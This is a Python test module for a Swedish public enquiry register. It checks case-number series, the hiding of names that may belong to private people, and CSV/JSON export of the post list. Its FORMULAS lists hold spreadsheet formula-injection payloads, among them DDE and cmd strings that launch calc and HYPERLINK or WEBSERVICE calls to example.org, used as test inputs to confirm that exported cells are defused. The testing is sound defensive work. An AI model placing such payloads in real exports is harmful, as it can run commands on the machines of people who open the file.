"""Numbers are told apart, nobody's name is published, and no cell of the list is run."""

import csv
import io
import re
import time
from datetime import date

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from stodbot.domain.enquiry import Sender
from stodbot.enquiries.register import (
    PublicRow,
    Series,
    post_list_csv,
    post_list_json,
    public_sender,
)
from stodbot.enquiries.wording import shown
from stodbot.errors import SettingsError

TEXTS = st.text(st.one_of(st.sampled_from("=+-@\t\r\n;,\"' ＝\x00\ud800\u202e"), st.characters()))
ROWS = st.builds(
    PublicRow,
    received=st.dates(),
    number=TEXTS,
    sender=st.none() | TEXTS,
    subject=TEXTS,
    voided=st.booleans(),
)
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1;"Klicka")',
    '=IMPORTXML("https://example.org";"//a")',
    '=WEBSERVICE("https://example.org")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "==1+1",
    "=-1+1",
    "-+1",
    "+-1",
    "--1",
    "@@1",
    " =1+1",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " \t =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2003+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\ttext",
    "\rtext",
    "\ntext",
    " \ttext",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
    "﹦1+1",
    "﹢1+1",
    "=",
    "-",
    '="',
    '="=1+1"',
    "=1+1,=2+2",
]
INNER_FORMULAS = [
    "a;=1+1",
    "a;b; =1+1",
    "a;\u200b=1+1",
    "a\t+1",
    "a\n=1+1",
    "a\r\n\r\n-1",
    ";=1+1",
    ";;＝1+1",
    '";=1+1',
]


def row(
    *,
    number: str = "26STOD1",
    sender: str | None = None,
    subject: str = "Stöd",
    voided: bool = False,
) -> PublicRow:
    return PublicRow(
        received=date(2026, 1, 2), number=number, sender=sender, subject=subject, voided=voided
    )


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def starts_formula(cell: str) -> bool:
    return cell.lstrip(' \n"\u00a0\u3000\u2003\u200b\ufeff').startswith(
        tuple("=+-@＝＋－＠﹦﹢﹣﹫")
    )


def test_first_number_of_the_shipped_series_is_short() -> None:
    actual = Series().number(2026, 1)

    assert "26STOD1" == actual


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        ("{yyyy}-{serial}", "2007-12"),
        ("RUN/{yy}/{serial}", "RUN/07/12"),
        ("{serial}.{yy}_STÖD2", "12.07_STÖD2"),
        ("{serial}/{yyyy}", "12/2007"),
        (f"{'A' * 17}{{yy}}-{{serial}}", f"{'A' * 17}07-12"),
    ],
)
def test_series_numbers_by_its_pattern(pattern: str, expected: str) -> None:
    actual = Series(pattern).number(2007, 12)

    assert expected == actual


@pytest.mark.parametrize(
    ("pattern", "reason"),
    [
        ("{yy}STOD", "{serial}"),
        ("", "{serial}"),
        ("{yy}-{serial}-{serial}", "{serial}"),
        ("STOD{serial}", "{yyyy}"),
        ("{yy}-{yyyy}-{serial}", "{yyyy}"),
        ("{yy}-{yy}-{serial}", "{yyyy}"),
        ("{yy}-{month}-{serial}", "klamrar"),
        ("{yy}-{serial}-{}", "klamrar"),
        ("{yy}-{serial}}", "klamrar"),
        ("{{yy}}-{serial}", "klamrar"),
        ("{yy}-{yy{serial}yy}", "klamrar"),
        ("{yy}-{serial:04}", "{serial}"),
        ("{yy}{serial}", "siffra"),
        ("{serial}{yyyy}", "siffra"),
        ("{yy}-1{serial}", "siffra"),
        ("{yy}-{serial}0", "siffra"),
        ("2{yy}-{serial}", "siffra"),
        ("{yy}2-{serial}", "siffra"),
        ("{yy} {serial}", "tecknen"),
        ("{yy}:{serial}", "tecknen"),
        ("{yy}-{serial}\n", "tecknen"),
        ("={yy}-{serial}", "tecknen"),
        ("{yy}-{serial}-\u0661", "tecknen"),
        (f"{'A' * 18}{{yy}}-{{serial}}", "högst 30 tecken"),
    ],
)
def test_pattern_that_makes_no_series_is_refused_with_the_reason(pattern: str, reason: str) -> None:
    with pytest.raises(SettingsError, match="Nummerserien") as refused:
        Series(pattern)

    assert reason in str(refused.value).removeprefix(f"Nummerserien {pattern!r}")


@settings(max_examples=500, deadline=None)
@given(
    st.lists(st.sampled_from(["{yy}", "{yyyy}", "{serial}", "1", "A", "-", "/"]), max_size=6),
    st.lists(st.tuples(st.integers(2000, 2099), st.integers(1, 20_000)), min_size=2, unique=True),
)
@example(["{yy}", "A", "{serial}"], [(2026, 1), (2026, 11), (2011, 26)])
def test_every_enquiry_has_its_own_number(parts: list[str], keys: list[tuple[int, int]]) -> None:
    try:
        series = Series("".join(parts))
    except SettingsError:
        return

    numbers = {series.number(year, serial) for year, serial in keys}

    assert len(keys) == len(numbers)


@pytest.mark.parametrize(("year", "serial"), [(1999, 1), (2100, 1), (2026, 0), (2026, -1)])
def test_number_outside_the_series_is_refused(year: int, serial: int) -> None:
    with pytest.raises(ValueError, match="no number"):
        Series().number(year, serial)


@pytest.mark.parametrize(
    "company",
    [
        "Ånge Bygg AB",
        "ånge bygg ab",
        "AB Svenskt Trä (publ)",
        "Sundsvalls Aktiebolag",
        "Åkarna HB",
        "Handelsbolaget Åkarna",
        "Åkarna KB",
        "Kommanditbolaget Åkarna",
        "Vår by ekonomisk förening",
        "Ljustorps bygdeförening",
        "Föreningen Norden",
        "Hembygden, ideell",
        "Stiftelsen Skogen",
        "Kulturstiftelse Nord",
        "Ånge kommun",
        "Ånge kommun, näringslivskontoret",
        "Upplands Väsby kommun",
        "Malung-Sälens kommun",
        "Region Västernorrland",
        "Västra Götalandsregionen",
        "Bostadsrättsföreningen Tallen",
        "BRF Tallen",
        "Mittuniversitetet",
        "Umeå universitet",
        "Högskolan i Gävle",
        "Kommunalförbundet Nord",
        "Nord Ltd",
        "Nord GmbH",
        "Pohja Oy",
        "Fjell AS",
        "Fjell A/S",
        "Nord 556016-0680",
    ],
)
def test_legal_person_is_shown(company: str) -> None:
    actual = public_sender(Sender(company=company))

    assert company == actual


@pytest.mark.parametrize(
    "company",
    [
        None,
        "",
        "Anna Andersson",
        "Annas Bygg",
        "Annas Bygg, enskild firma",
        "Annas Bygg AB (enskild firma)",
        "Enskilda firman Annas Bygg och Förening",
        "Annas AB, ensk. firma",
        "Enskild näringsidkare i Region Västernorrland",
        "Annas Bygg 121212-1212",
        "Annas Bygg 556016-0681",
        "Abborrfiske",
        "Labb",
        "Anna Andersson i Ånge kommun",
        "Anna Andersson, Ånge kommun",
        "Anna Andersson, Region Västernorrland",
        "jag säljer sånt as som ingen vill ha",
        "Ånge Bygg AB, anna@example.org",
        "Ånge Bygg AB, 070-123 45 67",
        "Ånge Bygg AB +46 (0)70 123 45 67",
        "Jag heter Anna " + "och så vidare " * 10 + "och vill starta AB",
    ],
)
def test_who_may_be_a_private_person_is_not_shown(company: str | None) -> None:
    actual = public_sender(Sender(company=company, contact="Anna, 070-123 45 67"))

    assert actual is None


@pytest.mark.parametrize(
    ("company", "expected"),
    [
        ("Ånge Bygg AB 19121212-1212", "Ånge Bygg AB [personnummer]"),
        ("Fo\u0308reningen\r\n\tNorden ", "Föreningen Norden"),
        ("Ånge Bygg AB\u202e", "Ånge Bygg AB[U+202E]"),
    ],
)
def test_legal_person_is_shown_without_what_is_not_its_name(company: str, expected: str) -> None:
    actual = public_sender(Sender(company=company))

    assert expected == actual


@settings(max_examples=500, deadline=None)
@given(TEXTS)
def test_contact_and_municipality_are_never_shown(text: str) -> None:
    sender = Sender(company="Ånge Bygg AB", contact=text, municipality=text)

    actual = public_sender(sender)

    assert "Ånge Bygg AB" == actual


@pytest.mark.parametrize("part", ["a", "förening", "region ", "0", "- ", "\u0300", "ab-", " "])
def test_long_company_takes_little_time(part: str) -> None:
    sender = Sender(company=(part * 20_000)[:20_000])
    started = time.perf_counter()

    public_sender(sender)

    assert time.perf_counter() - started < 0.5


def test_post_list_is_csv_with_swedish_words() -> None:
    rows = [
        row(number="26STOD1", sender="Bygg, Plåt & Tak AB"),
        row(number="26STOD2", subject='"Stöd"', voided=True),
    ]

    actual = post_list_csv(rows)

    assert (
        "Inkom,Nummer,Avsändare,Ärende,Anmärkning\r\n"
        '2026-01-02,26STOD1,"Bygg, Plåt & Tak AB",Stöd,\r\n'
        '2026-01-02,26STOD2,Uppgiften visas inte,"""Stöd""",makulerad\r\n'
    ) == actual


def test_post_list_of_a_day_without_post_has_only_the_header() -> None:
    actual = post_list_csv([])

    assert "Inkom,Nummer,Avsändare,Ärende,Anmärkning\r\n" == actual


@settings(max_examples=500, deadline=None)
@given(st.lists(ROWS, max_size=5))
def test_every_row_is_read_back(rows: list[PublicRow]) -> None:
    text = post_list_csv(rows)

    _, *read = read_back(text)
    written = [
        (row.received.isoformat(), shown(row.number), shown(row.subject), row.voided)
        for row in rows
    ]
    assert [unmarked(*cells) for cells in written] == [
        unmarked(received, number, subject, note == "makulerad")
        for received, number, _, subject, note in read
    ]
    assert text == text.encode().decode()


def unmarked(received: str, number: str, subject: str, voided: bool) -> tuple[str | bool, ...]:
    """The row without the marks that keep its cells from being formulas."""
    return received, number.replace("'", ""), subject.replace("'", ""), voided


@settings(max_examples=500, deadline=None)
@given(st.lists(ROWS, max_size=5))
def test_no_cell_of_any_row_is_a_formula(rows: list[PublicRow]) -> None:
    text = post_list_csv(rows)

    cells = [cell for cells in read_back(text) for cell in cells]
    assert [] == [cell for cell in cells if starts_formula(cell)]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_is_shown_as_text(formula: str) -> None:
    rows = [row(number=formula, sender=formula, subject=formula)]

    _, (_, *cells, _) = read_back(post_list_csv(rows))

    assert ["'", "'", "'"] == [cell[0] for cell in cells]


@pytest.mark.parametrize("separator", [";", "\t"])
@pytest.mark.parametrize("formula", INNER_FORMULAS + FORMULAS)
def test_formula_is_text_whatever_the_list_is_taken_to_be_separated_by(
    formula: str, separator: str
) -> None:
    text = post_list_csv([row(sender=formula)])

    cells = re.split(f"[{separator}\r\n]", text)
    assert [] == [cell for cell in cells if starts_formula(cell)]


@pytest.mark.parametrize("sender", ["Bygg - Tak AB", "Bygg+Tak AB; Ånge", "a=b", "5-1 AB", "'s AB"])
def test_harmless_name_stays_as_it_is(sender: str) -> None:
    _, cells = read_back(post_list_csv([row(sender=sender)]))

    assert sender == cells[2]


def test_long_cell_takes_little_time() -> None:
    rows = [row(sender=part * 20_000) for part in (" ", "\n", ";", "; ", " =", ";a")]
    started = time.perf_counter()

    post_list_csv(rows)

    assert time.perf_counter() - started < 0.5


def test_post_list_is_json_with_iso_dates() -> None:
    rows = [row(sender="Ånge Bygg AB\x00"), row(number="26STOD2", voided=True)]

    actual = post_list_json(rows)

    assert [
        {
            "received": "2026-01-02",
            "number": "26STOD1",
            "sender": "Ånge Bygg AB\ufffd",
            "subject": "Stöd",
            "voided": False,
            "weeded": None,
        },
        {
            "received": "2026-01-02",
            "number": "26STOD2",
            "sender": None,
            "subject": "Stöd",
            "voided": True,
            "weeded": None,
        },
    ] == actual
